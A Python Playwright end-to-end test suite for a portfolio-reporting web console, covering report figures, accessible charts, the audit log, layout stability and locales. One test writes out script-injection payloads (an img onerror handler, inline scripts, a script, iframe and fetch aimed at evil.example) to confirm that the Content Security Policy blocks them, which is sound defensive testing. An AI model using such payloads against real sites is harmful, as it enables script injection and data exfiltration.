"""The pages show the data of the API, on every screen, in both themes, accessibly."""

import re
from datetime import date
from pathlib import Path
from typing import Any, Literal, cast

import pytest
from playwright.sync_api import Browser, Route, expect

from tests.console.site import BACKTEST, Site, Visitor, is_phone, region
from tests.end_to_end.app import BASE, App, running_app

# The sum of all layout shifts so far, after the last rendering has been laid out.
SHIFTS = """
() => new Promise((done) => requestAnimationFrame(() => setTimeout(() => {
  const observer = new PerformanceObserver(() => {});
  observer.observe({ type: "layout-shift", buffered: true });
  done(observer.takeRecords().reduce((sum, entry) => sum + (entry.hadRecentInput ? 0 : entry.value), 0));
})))
"""
MOST_SHIFT = 0.02


def test_the_overview_shows_the_last_run_the_next_and_the_health(reader: Visitor, site: Site, run_id: str) -> None:
    run = site.app.status(run_id)
    standing = region(reader, "Status")
    expect(standing).to_contain_text(f"{run['users_failed']} user failed")
    expect(standing).to_contain_text(f"{run['users_analyzed']} portfolios analyzed")
    expect(region(reader, "Next run")).to_contain_text("01:00 UTC")
    expect(region(reader, "Next run")).to_contain_text("02:00 local time")
    expect(region(reader, "Health")).to_contain_text("DatabaseConnected")
    expect(region(reader, "History").get_by_role("link")).to_have_count(2)
    region(reader, "History").get_by_role("link").last.click()
    reader.page.wait_for_url(f"**/console#/runs/{run_id}")


def test_a_disabled_nightly_timer_has_no_next_run(browser: Browser, tmp_path: Path) -> None:
    with running_app(tmp_path, **{"AzureWebJobs.nightly_analysis.Disabled": "1"}) as app:
        schedule = app.client.get(f"{BASE}/schedule").json()
        known = {"schedule": "0 0 1 * * *", "previous": None, "next": None, "disabled": True}
        assert schedule == known | {"watchdog": schedule["watchdog"]}
        visitor = Visitor.arrive(browser, Site(app, cast("Any", None), cast("Any", None)))
        visitor.open()
        visitor.sign_in()
        expect(region(visitor, "Next run")).to_contain_text("Disabled")
        expect(region(visitor, "Next run")).to_contain_text("0 0 1 * * *")
        expect(region(visitor, "Next run")).not_to_contain_text("UTC")
        visitor.leave()


def test_a_portfolio_shows_the_figures_of_its_report(reader: Visitor, site: Site, run_id: str) -> None:
    report = site.app.report(run_id, "ada-allrounder")
    reader.go(f"/runs/{run_id}/portfolios/ada-allrounder")
    reader.headed("ada-allrounder")
    total = report["valuation"]["market_value"] + report["valuation"]["cash"]
    expect(reader.page.locator(".figures").first).to_contain_text(f"${total:,.0f}")
    risk = region(reader, "Risk")
    expect(risk).to_contain_text(f"{report['risk']['annual_volatility']:.1%}")
    expect(risk).to_contain_text("On one day in twenty, they would have lost")
    crossed = [check for check in report["checks"] if check["status"] != "ok"]
    assert crossed
    for check in crossed:
        expect(region(reader, "Checks")).to_contain_text(check["message"])
    expect(region(reader, "Holdings").locator("tbody tr")).to_have_count(len(report["holdings"]))
    expect(region(reader, "Stress tests")).to_contain_text("Covid crash 2020")
    known = [entry for entry in report["stress"] if entry["return"] is not None]
    assert len(known) < len(report["stress"])
    expect(region(reader, "Stress tests").locator(".bar")).to_have_count(len(known))
    for order in report["order_plan"]["orders"]:
        expect(region(reader, "Order plan")).to_contain_text(order["symbol"])
    expect(region(reader, BACKTEST).locator("canvas")).to_be_visible()
    correlations = region(reader, "Correlation of holdings")
    expect(correlations.locator("tbody tr")).to_have_count(len(report["holdings"]))


def test_charts_can_be_read_with_the_keyboard_and_as_a_table(reader: Visitor, site: Site, run_id: str) -> None:
    reader.go(f"/runs/{run_id}/portfolios/ada-allrounder")
    report = site.app.report(run_id, "ada-allrounder")
    gained = f"{report['performance']['cumulative_return']:.0%}"
    growth = region(reader, BACKTEST)
    chart = growth.get_by_role("slider")
    expect(chart).to_have_attribute("aria-valuetext", re.compile(f"28 Dec 2022: .*, Today's holdings {gained}"))
    start = date.fromisoformat(report["performance"]["start"]).strftime("%-d %b %Y")
    reader.settle()
    reader.page.mouse.move(0, 0)  # otherwise the values at the pointer are shown
    chart.focus()
    chart.press("Home")
    expect(chart).to_have_attribute("aria-valuetext", f"{start}: Benchmark 0%, Today's holdings 0%")
    canvas = chart.locator("canvas").element_handle()
    width = canvas.evaluate("canvas => canvas.clientWidth")
    reader.page.set_viewport_size({"width": 1000, "height": 700})
    reader.page.wait_for_function("([canvas, width]) => canvas.clientWidth < width", arg=[canvas, width])
    expect(chart).to_have_attribute("aria-valuetext", f"{start}: Benchmark 0%, Today's holdings 0%")
    chart.press("ArrowRight")
    expect(chart).to_have_attribute("aria-valuenow", "1")
    growth.get_by_text("View as table").click()
    expect(growth.get_by_role("row").last).to_contain_text(gained)


def test_a_portfolio_shows_the_changes_since_its_last_report(
    reader: Visitor, site: Site, runs: tuple[str, str]
) -> None:
    reader.go(f"/runs/{runs[1]}/portfolios/ada-allrounder")
    changes = region(reader, "Changes since last report")
    for number in runs:
        valuation = site.app.report(number, "ada-allrounder")["valuation"]
        expect(changes).to_contain_text(f"${valuation['market_value'] + valuation['cash']:,.0f}")
    changes.get_by_role("link").click()
    reader.page.wait_for_url(f"**/runs/{runs[0]}/portfolios/ada-allrounder")
    expect(region(reader, "Changes since last report")).to_contain_text("No earlier report")


@pytest.mark.parametrize(
    ("user_id", "text"),
    [
        ("walt-underwater", "zero or negative"),
        ("tess-stale-mostly", "Too little of what is owned, or of one side of it, has enough recent price history"),
        ("nell-nothing-held", "The portfolio has no holdings."),
        ("yuri-corrupt-account", "cash is not a number"),
        ("otto-onlooker", "No report"),
    ],
)
def test_an_incomplete_report_shows_the_reason(reader: Visitor, run_id: str, user_id: str, text: str) -> None:
    reader.expected.add("status of 404")
    reader.go(f"/runs/{run_id}/portfolios/{user_id}")
    reader.headed(user_id)
    expect(reader.page.get_by_role("main")).to_contain_text(text)


def test_figures_follow_the_users_locale_and_sentences_stay_english(browser: Browser, site: Site, run_id: str) -> None:
    visitor = Visitor.arrive(browser, site, locale="de-DE")
    visitor.open(f"/runs/{run_id}/portfolios/ada-allrounder")
    visitor.sign_in()
    report = site.app.report(run_id, "ada-allrounder")
    volatility = f"{report['risk']['annual_volatility']:.1%}".replace(".", ",").replace("%", "\N{NO-BREAK SPACE}%")
    expect(region(visitor, "Risk")).to_contain_text(volatility)
    visitor.go("/")
    expect(region(visitor, "Next run")).to_contain_text(re.compile(r"in (\d+ (hour|minute)s?|less than a minute)"))
    visitor.leave()


@pytest.mark.parametrize(("place", "name"), [("", "Duration by phase"), ("/portfolios/ada-allrounder", "Stress tests")])
def test_the_longest_bar_fills_its_column(reader: Visitor, run_id: str, place: str, name: str) -> None:
    reader.go(f"/runs/{run_id}{place}")
    card = region(reader, name)
    expect(card.locator(".bar").first).to_be_attached()
    longest = "Math.max(...Array.from(card.querySelectorAll('.bar'), (bar) => bar.offsetWidth))"
    reader.page.wait_for_function(f"(card) => {longest} > 0.15 * card.offsetWidth", arg=card.element_handle())


def page_of_start(app: App, run_id: str) -> str:
    """Return the page of the audit log that has the start of the run: reads of other tests may be above it."""
    place = "/audit"
    while True:
        page = app.client.get(f"{BASE}/audit?limit=50{place.removeprefix('/audit').replace('?', '&')}").json()
        if any((entry["action"], entry["run_id"]) == ("trigger", run_id) for entry in page["entries"]):
            return place
        place = f"/audit?before={page['next']}"


def test_the_audit_log_shows_the_start_of_a_run_with_its_user(reader: Visitor, run_id: str) -> None:
    reader.page.get_by_role("link", name="Audit log").click()
    reader.headed("Audit log")
    reader.go(page_of_start(reader.site.app, run_id))
    entry = reader.page.get_by_role("row").filter(has_text=run_id).filter(has_text="Start a run")
    expect(entry).to_contain_text("admin-secret")
    expect(entry).to_contain_text("Accepted")
    entry.get_by_role("link").click()
    reader.page.wait_for_url(f"**/runs/{run_id}")


def test_the_audit_log_shows_whose_figures_were_read(reader: Visitor, run_id: str) -> None:
    reader.go(f"/runs/{run_id}/portfolios")
    expect(reader.page.get_by_role("row").filter(has_text="ada-allrounder")).to_be_visible()
    reader.go(f"/runs/{run_id}/portfolios/ada-allrounder")
    reader.headed("ada-allrounder")
    reader.go("/audit")
    read = reader.page.get_by_role("row").filter(has_text="Read a report").first
    expect(read).to_contain_text("Accepted")
    expect(read.get_by_role("link", name="ada-allrounder")).to_be_visible()
    listed = reader.page.get_by_role("row").filter(has_text="List portfolios").first
    expect(listed.get_by_text(re.compile(r"^\d+ users$"))).to_have_attribute("title", re.compile("ada-allrounder"))


@pytest.mark.parametrize("place", ["/nowhere", "/runs/run_20200101_000000_abcd", "/runs/x/y/z"])
def test_an_unknown_address_shows_not_found(reader: Visitor, place: str) -> None:
    reader.expected.add("status of 404")
    reader.go(place)
    expect(reader.page.get_by_role("main")).to_contain_text("not found")


def test_a_portfolio_is_reached_from_the_overview_with_the_keyboard_alone(reader: Visitor, run_id: str) -> None:
    page = reader.page

    def tab_to(text: str) -> None:
        link = page.get_by_role("link", name=text, exact=True)
        expect(link).to_be_visible()
        reader.settle()
        for _ in range(60):
            page.keyboard.press("Tab")
            if link.evaluate("link => link === document.activeElement"):
                return
        raise AssertionError(f"the focus never reached {text}")

    reader.begun("Overview")
    tab_to("View portfolios")
    page.keyboard.press("Enter")
    reader.led_to(f"/runs/{run_id}/portfolios")
    reader.begun("Portfolios")
    tab_to("ben-bluechip")
    page.keyboard.press("Enter")
    reader.led_to(f"/runs/{run_id}/portfolios/ben-bluechip")
    reader.begun("ben-bluechip")
    page.keyboard.press("Shift+Tab")
    page.keyboard.press("Shift+Tab")
    trail = page.get_by_role("navigation", name="Breadcrumb")
    expect(trail.get_by_role("link", name="Run", exact=True)).to_be_focused()


@pytest.mark.parametrize("theme", ["light", "dark"])
@pytest.mark.parametrize("device", ["desktop", "phone"])
def test_every_page_is_accessible_steady_and_fits_its_screen(
    browser: Browser, site: Site, run_id: str, theme: Literal["light", "dark"], device: str
) -> None:
    options = is_phone(theme) if device == "phone" else {"color_scheme": theme}
    visitor = Visitor.arrive(browser, site, **options)
    visitor.open()
    visitor.headed("Sign in")
    flaws = {"sign in": visitor.flaws()}
    visitor.sign_in()
    visitor.headed("Overview")
    places = ["/", "/portfolios", "/runs", "/start", f"/runs/{run_id}", f"/runs/{run_id}/portfolios",
              f"/runs/{run_id}/portfolios/ada-allrounder", "/deliveries", "/audit", "/nowhere"]  # fmt: skip
    for place in places:
        visitor.go(place)
        visitor.settle()
        visitor.page.evaluate("document.querySelectorAll('details').forEach((all) => { all.open = true; })")
        flaws[place] = visitor.flaws()
        if visitor.page.evaluate("document.documentElement.scrollWidth > innerWidth"):
            flaws[place].append("wider than the screen")
    visitor.go("/start")
    visitor.page.get_by_role("button", name="Continue").click()
    expect(visitor.page.get_by_role("dialog")).to_be_visible()
    flaws["dialog"] = visitor.flaws()
    visitor.leave()
    assert {place: found for place, found in flaws.items() if found} == {}


@pytest.mark.parametrize(
    "what", ["/", "/portfolios", "/runs/{}", "/runs/{}/portfolios", "/runs/{}/portfolios/ada-allrounder"]
)
def test_nothing_jumps_while_a_page_is_loaded(browser: Browser, site: Site, run_id: str, what: str) -> None:
    visitor = Visitor.arrive(browser, site)
    visitor.open()
    visitor.sign_in()
    visitor.headed("Overview")
    visitor.go(what.format(run_id))
    # Responses are held back, so that the placeholders and each late response are measured.
    held: list[Route] = []
    is_held = True
    visitor.page.route("**/api/**/portfolio/**", lambda route: held.append(route) if is_held else route.continue_())
    visitor.page.reload()
    expect(visitor.page.locator(".skeleton").first).to_be_visible()
    visitor.page.evaluate(SHIFTS)
    is_held = False
    for route in held:
        route.continue_()
        visitor.page.evaluate(SHIFTS)
    visitor.settle()
    assert visitor.page.evaluate(SHIFTS) < MOST_SHIFT
    visitor.leave()


def test_an_injected_script_or_style_does_nothing(reader: Visitor) -> None:
    reader.expected |= {
        "Content Security Policy",
        "Refused to",
        "TrustedHTML",
        "TrustedScript",
        "Trusted Type",
        "violates",
        "evil.example",
    }
    found = reader.page.evaluate(
        """() => {
            const tried = {};
            const attempt = (name, act) => { try { act(); } catch (error) { tried[name] = error.name; } };
            attempt("html", () => { document.body.innerHTML = "<img src=x onerror='window.injected = 1'>"; });
            attempt("script", () => {
                const script = document.createElement("script");
                script.textContent = "window.injected = 2";
                document.head.append(script);
            });
            attempt("elsewhere", () => {
                const script = document.createElement("script");
                script.src = "https://evil.example/x.js";
                document.head.append(script);
            });
            attempt("timer", () => setTimeout("window.injected = 3"));
            const style = document.createElement("style");
            style.textContent = "body { display: none }";
            document.head.append(style);
            const frame = document.createElement("iframe");
            frame.src = "https://evil.example/";
            document.body.append(frame);
            return tried;
        }"""
    )
    assert set(found) == {"html", "script", "elsewhere", "timer"}
    leaked = reader.page.evaluate("fetch('https://evil.example/').then(() => 'sent', () => 'refused')")
    assert leaked == "refused"
    assert reader.page.evaluate("window.injected") is None  # everything was refused at once, nothing is pending
    expect(reader.page.get_by_role("main")).to_be_visible()


def test_a_change_by_a_fraction_of_a_share_is_shown(reader: Visitor, site: Site) -> None:
    whose = {"user_id": "uma-fractions", "symbol": "AAPL"}
    site.database.holdings.update_one(whose, {"$set": {"quantity": 3.25}})
    run = site.app.run(user_ids=["uma-fractions"])
    site.database.holdings.update_one(whose, {"$set": {"quantity": 3.14159}})
    reader.go(f"/runs/{run['run_id']}/portfolios/uma-fractions")
    change = region(reader, "Changes since last report").get_by_role("row").filter(has_text="AAPL")
    expect(change).to_contain_text("3.14159 shares")
    expect(change).to_contain_text("3.25 shares")
